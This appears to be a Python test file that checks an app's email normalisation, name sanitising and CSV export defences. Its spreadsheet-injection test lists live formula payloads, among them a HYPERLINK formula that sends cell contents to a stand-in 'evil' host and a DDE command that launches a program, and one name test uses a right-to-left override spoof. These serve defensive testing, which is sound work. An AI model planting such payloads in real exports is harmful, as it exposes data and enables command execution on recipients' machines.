"""Addresses, names and exported cells."""

import csv
import io

import pytest
from email_validator import EmailNotValidError, validate_email
from hypothesis import given, settings
from hypothesis import strategies as st

from app.kernel.csv_export import csv_line
from app.kernel.emails import normalise_email
from app.kernel.names import clean_name
from app.kernel.text import neutralise_cell, plain_cell, storable


def test_an_address_is_one_identity_in_any_case() -> None:
    result = normalise_email(" Aisyah@Example.MY ")
    assert (result.address, result.identity) == ("Aisyah@example.my", "aisyah@example.my")
    assert normalise_email("mailto:ＡＩＳＹＡＨ@example.my\u200b").identity == "aisyah@example.my"


@pytest.mark.parametrize(
    "text", ["someone@@example", "nope", "a@b", "a b@example.my", "@example.my", "a@[127.0.0.1]"]
)
def test_what_is_no_address_is_refused(text: str) -> None:
    assert normalise_email(text).reason == "invalid_email"


def test_a_blank_address_is_no_mistake() -> None:
    assert normalise_email(" \u200b").reason == "email_blank"


@given(st.text(max_size=80))
def test_any_text_is_an_address_or_has_a_reason(text: str) -> None:
    result = normalise_email(text)
    assert (result.identity is None) == (result.reason is not None)


@given(
    st.text(alphabet="aZ0.-_+@ü", max_size=12),
    st.sampled_from(["com", "my", "example.my", "-a.com", "a--b.sg"]),
)
@settings(deadline=None)  # the library is slow at its first address
def test_the_short_way_for_plain_addresses_agrees_with_the_library(start: str, end: str) -> None:
    text = f"{start}{end}"
    quick = normalise_email(text)
    try:
        parsed = validate_email(text, check_deliverability=False, globally_deliverable=False)
    except EmailNotValidError:
        assert quick.address is None
    else:
        whole = f"{parsed.local_part}@{parsed.domain.casefold()}"
        assert quick.address == (whole if "." in parsed.domain else None)


def test_v07_names_cannot_flip_or_flood_the_page() -> None:
    assert clean_name("Ali\u202egnp.exe").name == "Alignp.exe"
    assert len(clean_name("Z" + "\u0301" * 200).name or "") <= 7
    assert len(clean_name("x" * 10_000).name or "") == 200
    assert clean_name("   \u200b").name is None
    assert clean_name("👨‍👩‍👧").name == "👨‍👩‍👧"


def test_v07_a_name_is_never_cut_inside_a_joined_emoji() -> None:
    family = "👨‍👩‍👧"
    assert clean_name("x" * 198 + family).name == "x" * 198


def test_v01_nul_and_lone_surrogates_never_reach_the_database() -> None:
    assert storable("Hi\x00there\ud83d") == ("Hithere", ("nul_removed", "surrogates_removed"))
    assert clean_name("\x00").name is None


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("http://evil/?"&A1,"x")',
        "=cmd|'/C calc'!A0",
        "+60123456789",
        "-1+1",
        "@SUM(A1)",
        "\t=1",
        " =1",
        "＝1+1",
        "\r=1",
    ],
)
def test_o07_a_cell_that_would_run_opens_as_text(value: str) -> None:
    assert neutralise_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Ana", "O'Brien", "'tis", "", "a=b", "3", "مريم"])
def test_o07_harmless_cells_stay_as_they_are(value: str) -> None:
    assert neutralise_cell(value) == value


def test_o07_headers_are_covered_too() -> None:
    text = "".join(csv_line(cells) for cells in (["=1+1", "name"], ["=2+2", None], ['a;"=3"', 5]))
    read = list(csv.reader(io.StringIO(text, newline="")))
    assert read == [["'=1+1", "name"], ["'=2+2", ""], ['a;"=3"', "5"]]


@given(st.text(max_size=20) | st.text(alphabet="'=+-@ \ta", max_size=6))
def test_o01_an_exported_cell_is_read_back_as_it_was(text: str) -> None:
    assert plain_cell(neutralise_cell(text)) == text
